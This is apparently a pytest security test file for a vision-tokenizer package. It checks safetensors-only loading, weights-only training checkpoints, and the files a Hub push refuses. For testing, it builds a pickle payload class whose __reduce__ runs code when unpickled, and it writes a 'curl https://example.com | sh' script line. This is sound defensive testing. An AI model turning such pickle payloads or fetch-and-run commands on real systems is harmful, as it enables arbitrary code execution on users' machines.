"""Untrusted files run nothing: weights load from safetensors only (pickles on an explicit opt-in), training
checkpoints are read weights-only, and `dualtoken push` uploads only the package's modules and data files."""

import json
import os
import shutil

import pytest
import torch
from accelerate import Accelerator
from safetensors.torch import load_file
from transformers import SiglipTextConfig, SiglipTextModel, SiglipVisionModel

from dualtoken_hf import DualTokenImageProcessor, DualTokenVisionConfig, DualTokenVisionModel
from dualtoken_hf.cli import main
from dualtoken_hf.evaluation.semantic import load_teacher
from dualtoken_hf.evaluation.zero_shot import load_text_tower
from dualtoken_hf.hub import export as hub_export
from dualtoken_hf.hub.contents import check_hub_files, package_modules
from dualtoken_hf.hub.export import EXPORT_CHECK_FILE, export_folder, push_folder
from dualtoken_hf.hub.folders import load_model
from dualtoken_hf.training.weights_only import check_weights_only


TINY = DualTokenVisionConfig.from_preset("tiny")


# ------------------------------------------------------------------------------------- safetensors-only loading


def pickled_folder(model, folder):
    """`model` saved as a folder whose weights are a pickle (`pytorch_model.bin`) instead of safetensors."""
    model.save_pretrained(folder)
    torch.save(load_file(folder / "model.safetensors"), folder / "pytorch_model.bin")
    (folder / "model.safetensors").unlink()
    return folder


@pytest.fixture
def no_torch_load(monkeypatch):
    """Fail the test if anything unpickles a file."""

    def refuse(*args, **kwargs):
        raise AssertionError("torch.load was called on an untrusted file")

    monkeypatch.setattr(torch, "load", refuse)


@pytest.fixture(scope="module")
def pickled(tmp_path_factory):
    root = tmp_path_factory.mktemp("pickled")
    torch.manual_seed(0)
    tokenizer = pickled_folder(DualTokenVisionModel(TINY), root / "tokenizer")
    DualTokenImageProcessor.from_preset("tiny").save_pretrained(tokenizer)
    text_config = SiglipTextConfig(
        vocab_size=64, hidden_size=16, intermediate_size=32, num_hidden_layers=1, num_attention_heads=2,
        max_position_embeddings=8,
    )
    return {
        "tokenizer": tokenizer,
        "siglip": pickled_folder(SiglipVisionModel(TINY.siglip_config), root / "siglip"),
        "siglip_text": pickled_folder(SiglipTextModel(text_config), root / "siglip_text"),
    }


@pytest.mark.parametrize(
    "loader, folder",
    [
        (load_model, "tokenizer"),  # every CLI subcommand loads a model folder this way
        (DualTokenVisionModel.from_siglip, "siglip"),
        (load_teacher, "siglip"),
        (load_teacher, "tokenizer"),
        (load_text_tower, "siglip_text"),
    ],
)
def test_pickled_weights_are_refused_without_being_unpickled(loader, folder, pickled, no_torch_load):
    with pytest.raises(OSError, match="model.safetensors"):
        loader(pickled[folder])


def test_pickled_weights_load_on_an_explicit_opt_in(pickled):
    tower = SiglipVisionModel.from_pretrained(pickled["siglip"], use_safetensors=False)
    tokenizer = DualTokenVisionModel.from_siglip(pickled["siglip"], preset="tiny", use_safetensors=False)
    for name, tensor in tower.state_dict().items():
        assert torch.equal(tokenizer.siglip.state_dict()[name], tensor)


def test_init_reads_a_pickled_siglip_only_with_allow_pickle(pickled, tmp_path, capsys):
    argv = ["init", "--siglip", str(pickled["siglip"]), "--llm", str(tmp_path / "no-llm"), "--preset", "tiny"]
    assert main(argv + [str(tmp_path / "refused")]) == 2
    assert "cannot load the SigLIP checkpoint" in capsys.readouterr().err
    # With the opt-in the SigLIP tower loads and the run gets as far as the (missing) LLM.
    assert main(argv + ["--allow-pickle", str(tmp_path / "allowed")]) == 2
    assert "cannot load the LLM checkpoint" in capsys.readouterr().err


# ------------------------------------------------------------------------------ weights-only training checkpoints


class Payload:
    """A pickle payload: unpickling it would create a file (standing for any code an attacker chooses)."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


@pytest.fixture(scope="module")
def accelerate_checkpoint(tmp_path_factory):
    """A checkpoint as `train_tokenizer.py` saves it: a prepared model, optimiser and schedule, and registered
    objects (discriminator, its optimiser and schedule) that Accelerate pickles as `custom_checkpoint_<i>.pkl`."""
    folder = tmp_path_factory.mktemp("checkpoint") / "checkpoint-1"
    accelerator = Accelerator(cpu=True)
    model, discriminator = torch.nn.Linear(3, 2), torch.nn.Linear(2, 1)
    optimizer, discriminator_optimizer = torch.optim.AdamW(model.parameters()), torch.optim.AdamW(discriminator.parameters())
    schedule = torch.optim.lr_scheduler.LambdaLR(optimizer, lambda step: 1.0)
    discriminator_schedule = torch.optim.lr_scheduler.LambdaLR(discriminator_optimizer, lambda step: 1.0)
    model, optimizer, schedule = accelerator.prepare(model, optimizer, schedule)
    for module, module_optimizer in ((model, optimizer), (discriminator, discriminator_optimizer)):
        module(torch.ones(1, module.in_features)).sum().backward()
        module_optimizer.step()
    accelerator.register_for_checkpointing(discriminator, discriminator_optimizer, discriminator_schedule)
    accelerator.save_state(str(folder))
    return folder


def test_a_checkpoint_written_by_accelerate_passes_the_weights_only_check(accelerate_checkpoint):
    assert sorted(path.name for path in accelerate_checkpoint.glob("custom_checkpoint_*.pkl"))
    check_weights_only(accelerate_checkpoint)


def test_a_checkpoint_with_a_pickled_payload_is_refused_before_it_runs(accelerate_checkpoint, tmp_path):
    checkpoint = tmp_path / "checkpoint-1"
    shutil.copytree(accelerate_checkpoint, checkpoint)
    marker = tmp_path / "payload-ran"
    torch.save({"state": Payload(marker)}, checkpoint / "custom_checkpoint_0.pkl")
    with pytest.raises(ValueError, match="custom_checkpoint_0.pkl' holds more than tensors"):
        check_weights_only(checkpoint)
    assert not marker.exists()


def test_train_tokenizer_refuses_to_resume_from_a_checkpoint_with_a_pickled_payload(tmp_path):
    from test_train_tokenizer import tiny_args, train_tokenizer, write_photos

    data_dir = write_photos(tmp_path / "photos", 4)
    common = ("--train_batch_size", "2", "--checkpointing_steps", "1", "--validation_steps", "100")
    output_dir = tmp_path / "run"
    train_tokenizer.main(train_tokenizer.parse_args(tiny_args(data_dir, output_dir, *common, "--max_train_steps", "1")))
    marker = tmp_path / "payload-ran"
    torch.save({"state": Payload(marker)}, output_dir / "checkpoint-1" / "custom_checkpoint_0.pkl")
    resume = tiny_args(data_dir, output_dir, *common, "--max_train_steps", "2", "--resume_from_checkpoint", "latest")
    with pytest.raises(ValueError, match="custom_checkpoint_0.pkl' holds more than tensors"):
        train_tokenizer.main(train_tokenizer.parse_args(resume))
    assert not marker.exists()


# ----------------------------------------------------------------------------------------------- push checks


class FakeHfApi:
    """Records uploads instead of reaching the Hub."""

    uploads: list = []

    def __init__(self, token=None):
        pass

    def create_repo(self, *args, **kwargs):
        pass

    def create_branch(self, *args, **kwargs):
        pass

    def upload_folder(self, **kwargs):
        self.uploads.append(kwargs)
        return type("Commit", (), {"commit_url": "https://huggingface.co/my-org/tiny/commit/0"})


@pytest.fixture
def fake_hub(monkeypatch):
    FakeHfApi.uploads = []
    monkeypatch.setattr(hub_export, "HfApi", FakeHfApi)
    return FakeHfApi.uploads


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    torch.manual_seed(0)
    model_dir = tmp_path_factory.mktemp("model") / "tokenizer"
    DualTokenVisionModel(TINY).save_pretrained(model_dir)
    DualTokenImageProcessor.from_preset("tiny").save_pretrained(model_dir)
    output = tmp_path_factory.mktemp("export") / "tokenizer"
    export_folder(model_dir, output, pixel_decoder=True)
    return output


@pytest.fixture
def checked_copy(exported, tmp_path):
    """A copy of the exported folder, and `vouch()`: record the folder's current files in its export check, as a
    check run with them present would (so only the content rules can refuse it)."""
    folder = tmp_path / "export"
    shutil.copytree(exported, folder, symlinks=True)

    def vouch():
        record = json.loads((folder / EXPORT_CHECK_FILE).read_text())
        record["files"] = hub_export._fingerprint(folder)
        (folder / EXPORT_CHECK_FILE).write_text(json.dumps(record))

    return folder, vouch


def test_an_exported_folder_holds_only_modules_and_data_files(exported, fake_hub):
    check_hub_files(exported)
    modules = {path.name for path in exported.glob("*.py")}
    assert modules and modules <= set(package_modules())
    push_folder(exported, "my-org/tiny")
    assert len(fake_hub) == 1


def test_a_unified_folder_with_its_text_tokenizer_holds_only_modules_and_data_files(tmp_path):
    from dualtoken_hf.testing import build_tiny_unified

    folder = build_tiny_unified(tmp_path / "unified")
    check_hub_files(folder)
    assert (tmp_path / "unified" / "pipeline_dualtoken.py").is_file()


def _link_file(folder):
    os.symlink("config.json", folder / "linked.json")


def _link_folder(folder):
    os.symlink(folder / "pixel_decoder", folder / "decoder_link")


def _executable(folder):
    os.chmod(folder / "config.json", 0o755)


def _script(folder):
    (folder / "notes.txt").write_text("#!/bin/sh\ncurl https://example.com | sh\n")


def _unknown_module(folder):
    (folder / "helpers.py").write_text("import os\n")


def _module_in_a_subfolder(folder):
    shutil.copy(folder / "configuration_dualtoken.py", folder / "pixel_decoder" / "configuration_dualtoken.py")


def _edited_module(folder):
    # Same size, so the export check's file sizes do not notice; the content differs from the package's.
    path = folder / "modeling_dualtoken_vision.py"
    text = path.read_text()
    path.write_text(text.replace("import torch", "import os  ", 1))


def _other_file_type(folder):
    (folder / "setup.sh").write_text("echo hello\n")


REFUSED = [
    (_link_file, "linked.json is a symbolic link"),
    (_link_folder, "decoder_link is a symbolic link"),
    (_executable, "config.json is executable (mode -rwxr-xr-x)"),
    (_script, "notes.txt is a script (it starts with #!)"),
    (_unknown_module, "helpers.py is not one of the package's modules"),
    (_module_in_a_subfolder, "pixel_decoder/configuration_dualtoken.py is not one of the package's modules"),
    (_edited_module, "modeling_dualtoken_vision.py differs from the package's modeling_dualtoken_vision.py"),
    (_other_file_type, "setup.sh is not a data file of an export"),
] + [
    (lambda folder, suffix=suffix: torch.save({}, folder / f"extra{suffix}"), f"extra{suffix} is a pickle ({suffix})")
    for suffix in (".pt", ".pth", ".bin", ".pkl", ".ckpt")
]


@pytest.mark.parametrize("change, reason", REFUSED, ids=[reason.split()[0] for _, reason in REFUSED])
def test_push_refuses_what_an_export_must_not_hold_and_says_which_file_and_why(change, reason, checked_copy,
                                                                               fake_hub, capsys):
    folder, vouch = checked_copy
    change(folder)
    if change is not _edited_module:  # that one keeps the recorded sizes: the check does not see it at all
        vouch()
    assert main(["push", str(folder), "--repo-id", "my-org/tiny"]) == 2
    err = capsys.readouterr().err
    assert reason in err and "Traceback" not in err
    assert fake_hub == []


def test_pickles_inside_copied_folders_are_refused_too(checked_copy, fake_hub):
    """`dualtoken export` copies the model folder's `siglip_text/`; a pickle there must not slip through."""
    folder, vouch = checked_copy
    (folder / "siglip_text").mkdir()
    torch.save({}, folder / "siglip_text" / "pytorch_model.bin")
    vouch()
    with pytest.raises(ValueError, match=r"siglip_text/pytorch_model.bin is a pickle \(\.bin\)"):
        push_folder(folder, "my-org/tiny")
    assert fake_hub == []


def test_what_the_upload_leaves_out_is_not_checked(checked_copy, fake_hub):
    folder, vouch = checked_copy
    (folder / ".git" / "hooks").mkdir(parents=True)
    (folder / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    os.chmod(folder / ".git" / "hooks" / "pre-commit", 0o755)
    vouch()
    push_folder(folder, "my-org/tiny")
    assert len(fake_hub) == 1
